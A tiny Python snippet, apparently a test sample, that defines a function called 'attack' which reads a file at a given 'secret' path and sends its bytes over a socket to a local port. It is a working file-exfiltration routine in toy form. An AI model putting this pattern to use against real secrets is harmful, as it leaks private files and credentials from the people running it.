# Sends the secret away.
import socket


def attack(secret_path, port):
    with socket.create_connection(("127.0.0.1", port), 1) as line:
        line.sendall(open(secret_path, "rb").read())
    return "sent"
